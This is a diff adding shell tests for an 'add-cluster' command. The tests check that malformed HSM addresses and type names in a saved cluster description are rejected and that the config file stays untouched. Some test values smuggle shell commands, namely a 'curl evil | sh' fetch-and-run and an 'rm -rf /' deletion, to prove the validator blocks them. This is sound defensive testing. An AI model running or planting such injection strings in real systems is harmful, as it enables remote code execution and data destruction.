@@ -130,4 +130,39 @@ expect_code 2 add-cluster --config "$F" --cluster-id cluster-2ab3cd4ef5g --from-
 expect_stderr "contradictory options (--from-describe and --wait)"
 expect_code 2 add-cluster --config "$F" --cluster-id cluster-2ab3cd4ef5g --from-describe "$T/saved.json" --endpoint "$ENDPOINT" --hsm-ca-cert "$CA"
 expect_file_same "$F" "$T/fleet.before"
+# values from a saved answer are checked before they reach the file: 254
+# naming the field, nothing written (a saved answer is only a file)
+bad_answer() { # FIELD-EDIT NEEDLE: edits cluster-2ab3cd4ef5g in a copy of saved.json
+  python3 - "$T/saved.json" "$T/bad.json" "$1" <<'PY'
+import json, sys
+d = json.load(open(sys.argv[1]))
+c = [c for c in d["Clusters"] if c["ClusterId"] == "cluster-2ab3cd4ef5g"][0]
+exec(sys.argv[3])
+json.dump(d, open(sys.argv[2], "w"))
+PY
+  cp "$F" "$T/fleet.before"
+  expect_code 254 add-cluster --config "$F" --cluster-id cluster-2ab3cd4ef5g --from-describe "$T/bad.json" --hsm-ca-cert "$CA"
+  expect_stderr "$2"
+  expect_file_same "$F" "$T/fleet.before"
+}
+bad_answer 'c["Hsms"][0]["EniIp"] = "evil.example.com"' 'invalid value in the cluster'"'"'s description (Hsms[0].EniIp): "evil.example.com" is not an IPv4 address'
+bad_answer 'c["Hsms"][1]["EniIp"] = "10.0.0.1; curl evil | sh"' '(Hsms[1].EniIp)'
+bad_answer 'c["Hsms"][0]["EniIpV6"] = "10.0.0.1"' '(Hsms[0].EniIpV6): "10.0.0.1" is not an IPv6 address'
+bad_answer 'c["HsmType"] = "hsm2m.medium\"; rm -rf /"' '(HsmType)'
+bad_answer 'c["HsmType"] = ".medium"' 'is not a plain type name'
+# a bare cluster object of another cluster is not the one asked for
+python3 -c 'import json,sys; d=json.load(open(sys.argv[1])); print(json.dumps(d["Clusters"][1]))' "$T/saved.json" > "$T/other.json"
+expect_code 254 add-cluster --config "$F" --cluster-id cluster-2ab3cd4ef5g --from-describe "$T/other.json" --hsm-ca-cert "$CA"
+expect_stderr "cluster not found (cluster-2ab3cd4ef5g)"
+# an address listed twice is written once, with a warning
+python3 - "$T/saved.json" "$T/dup.json" <<'PY'
+import json, sys
+d = json.load(open(sys.argv[1]))
+c = [c for c in d["Clusters"] if c["ClusterId"] == "cluster-2ab3cd4ef5g"][0]
+c["Hsms"].append(dict(c["Hsms"][0], HsmId="hsm-dupdupdupdu"))
+json.dump(d, open(sys.argv[2], "w"))
+PY
+expect_code 0 add-cluster --config "$T/dup.cfg" --cluster-id cluster-2ab3cd4ef5g --from-describe "$T/dup.json" --hsm-ca-cert "$CA" --output json
+expect_json '[s["hostname"] for s in d["servers"]]' '["10.0.1.12", "10.0.2.7"]'
+expect_stderr "lists an HSM address more than once: each is written once"
 done_
